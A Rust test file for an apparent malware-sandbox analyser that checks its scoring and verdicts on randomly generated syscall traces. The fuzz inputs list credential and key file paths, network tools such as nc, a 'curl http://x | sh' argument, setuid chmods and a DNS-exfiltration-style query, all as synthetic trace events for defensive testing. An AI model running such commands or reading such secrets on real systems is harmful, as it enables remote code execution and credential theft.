//! What must hold for any recording.

use types::{Access, Kind, Recording, Tier, Verdict};
use verdict::{MALICIOUS_POINTS, Options, SUSPICIOUS_POINTS, assess};

use crate::trace::{
    EACCES, ROOT, Trace, append, chmod, connect, dns, limit, memory, random, read, rename, socket,
    syscall, unlink, write,
};

/// A small deterministic generator (xorshift).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % sides
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[usize::try_from(self.roll(from.len() as u64)).unwrap()]
    }
}

const PATHS: &[&str] = &[
    "/etc/shadow",
    "/etc/cron.d/x",
    "/data/a.txt",
    "/data/a.txt.locked",
    "/home/sandbox/.ssh/id_rsa",
    "/tmp/.x",
    "/var/log/wtmp",
    "/proc/1/mem",
    "/dev/sda",
    "/usr/bin/ls",
    "/home/sandbox/.bashrc",
    "/data/b",
    "/",
    "relative",
    "",
    "/etc/../etc/passwd",
    "/proc/77/environ",
    "/home/sandbox/.aws/credentials",
    "/var/www/x.php",
];
const PROGRAMS: &[&str] = &[
    "/usr/bin/dash",
    "/usr/bin/python3",
    "/usr/bin/curl",
    "/data/sample",
    "/usr/bin/base64",
    "/usr/bin/find",
    "/tmp/.x",
    "/usr/bin/nc",
    "",
    "/usr/bin/tar",
    "/usr/bin/crontab",
];
const ARGS: &[&str] = &[
    "-c",
    "-i",
    "-d",
    "/",
    "-perm",
    "-4000",
    "sh",
    "-e",
    "curl http://x | sh",
    "",
    "--",
    "/etc/passwd",
    "-",
];

fn disorder(seed: u64) -> Recording {
    let mut dice = Dice(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut trace = Trace::bare();
    let mut pids = vec![ROOT];
    for _ in 0..dice.roll(80) {
        let pid = pids[usize::try_from(dice.roll(pids.len() as u64)).unwrap()];
        let path = dice.pick(PATHS);
        match dice.roll(18) {
            0 => pids.push(trace.fork(pid)),
            1 | 2 => {
                let argv = [dice.pick(ARGS), dice.pick(ARGS), dice.pick(ARGS)];
                trace.exec(pid, dice.pick(PROGRAMS), &argv);
            }
            3 => trace.failed(pid, read(path), EACCES),
            4 => trace.failed(pid, append(path), EACCES),
            5 => trace.writes(pid, path, &random(u32::try_from(dice.roll(99)).unwrap())),
            6 => trace.failed(pid, unlink(path), -1),
            7 => {
                trace.event(pid, rename(path, dice.pick(PATHS)));
            }
            8 => {
                trace.event(pid, chmod(path, 0o4755));
            }
            9 => trace.failed(
                pid,
                connect("127.0.0.1", u16::try_from(dice.roll(60_000)).unwrap()),
                -111,
            ),
            10 => trace
                .refused(pid, syscall(dice.pick(&["bpf", "mount", "keyctl", "clone", ""]), &[])),
            11 => trace.refused(pid, socket(u32::try_from(dice.roll(45)).unwrap(), 3)),
            12 => {
                trace.event(pid, memory(dice.roll(2) == 0));
            }
            13 => {
                trace.event(pid, dns("4d5a900003000004ffff00b8.x.example.com", 16));
            }
            14 => {
                trace.event(pid, limit("pids"));
            }
            15 => trace.exit(pid),
            16 => {
                trace.event(pid, write(path, b"\xff"));
            }
            _ => {
                let access = Access::ReadWrite;
                trace.event(
                    pid,
                    Kind::Open { path: path.into(), access, create: false, truncate: true },
                );
            }
        }
    }
    trace.finish()
}

#[test]
fn points_sum_to_the_score_and_stand_on_events() {
    for seed in 0..400 {
        let recording = disorder(seed);
        let assessment = assess(&recording, &Options::default());
        let sum: u32 = assessment.contributions.iter().map(|part| part.points).sum();
        assert_eq!(sum, assessment.score, "seed {seed}");
        assert!(assessment.score <= 100);
        assert_eq!(assessment.contributions.len(), assessment.detections.len());
        for (part, detection) in assessment.contributions.iter().zip(&assessment.detections) {
            assert_eq!(part.detector, detection.detector);
            assert_eq!(part.technique, detection.technique.id);
            assert!(detection.events.is_sorted() && !detection.events.is_empty());
            assert!(detection.events.len() <= 16);
            assert!(detection.event_count >= detection.events.len() as u64);
            assert!(
                detection.events.iter().all(|id| (1..=recording.events.len() as u64).contains(id))
            );
        }
        let expected = match assessment.score {
            MALICIOUS_POINTS.. => Verdict::Malicious,
            SUSPICIOUS_POINTS.. => Verdict::Suspicious,
            _ => Verdict::Benign,
        };
        assert_eq!(assessment.verdict, expected, "seed {seed}");
    }
}

#[test]
fn replay_gives_the_same_bytes() {
    for seed in 0..200 {
        let recording = disorder(seed);
        let bytes = |recording: &Recording| {
            serde_json::to_vec(&assess(recording, &Options::default())).unwrap()
        };
        let first = bytes(&recording);
        assert_eq!(first, bytes(&recording), "seed {seed}");
        let stored = serde_json::to_vec(&recording).unwrap();
        let again: Recording = serde_json::from_slice(&stored).unwrap();
        assert_eq!(again, recording);
        assert_eq!(first, bytes(&again), "seed {seed} after a round trip");
    }
}

#[test]
fn incomplete_is_never_benign() {
    for seed in 0..200 {
        let mut recording = disorder(seed);
        recording.faults.push("the monitor was lost".to_owned());
        assert_ne!(assess(&recording, &Options::default()).verdict, Verdict::Benign, "seed {seed}");
        recording.run.tier = Tier::C;
        let options = Options { require_full: true };
        assert_eq!(assess(&recording, &options).verdict, Verdict::Inconclusive, "seed {seed}");
    }
}

#[test]
fn events_at_the_same_instant_may_change_places() {
    for seed in 0..100 {
        let mut trace = Trace::new();
        let mut dice = Dice(seed + 1);
        let mut kinds: Vec<Kind> = PATHS.iter().map(|path| read(path)).collect();
        kinds.extend((1..30).map(|port| connect("127.0.0.1", port)));
        for _ in 0..kinds.len() {
            let (a, b) = (dice.roll(kinds.len() as u64), dice.roll(kinds.len() as u64));
            kinds.swap(usize::try_from(a).unwrap(), usize::try_from(b).unwrap());
        }
        kinds.into_iter().for_each(|kind| trace.failed(ROOT, kind, EACCES));
        let mut recording = trace.finish();
        recording.events.iter_mut().for_each(|event| event.time_ns = 5);
        let assessment = assess(&recording, &Options::default());
        let mut found: Vec<&str> =
            assessment.detections.iter().map(|d| d.detector.as_str()).collect();
        found.sort_unstable();
        let expect = [
            "credential-files",
            "port-scan",
            "private-key-read",
            "process-secrets",
            "raw-disk-read",
            "read-and-send",
            "shadow-read",
        ];
        // Whether a secret was read before the connection is the one thing order decides.
        found.retain(|id| *id != "read-and-send");
        let expect: Vec<&str> = expect.into_iter().filter(|id| *id != "read-and-send").collect();
        assert_eq!(found, expect, "seed {seed}");
    }
}

#[test]
fn what_a_sample_controls_is_escaped() {
    let mut trace = Trace::new();
    trace.failed(ROOT, append("/etc/cron.d/\u{1b}[31mred\u{202e}"), EACCES);
    let assessment = assess(&trace.finish(), &Options::default());
    let summary = &assessment.detections[0].summary;
    assert!(!summary.contains(['\u{1b}', '\u{202e}']), "{summary}");
}
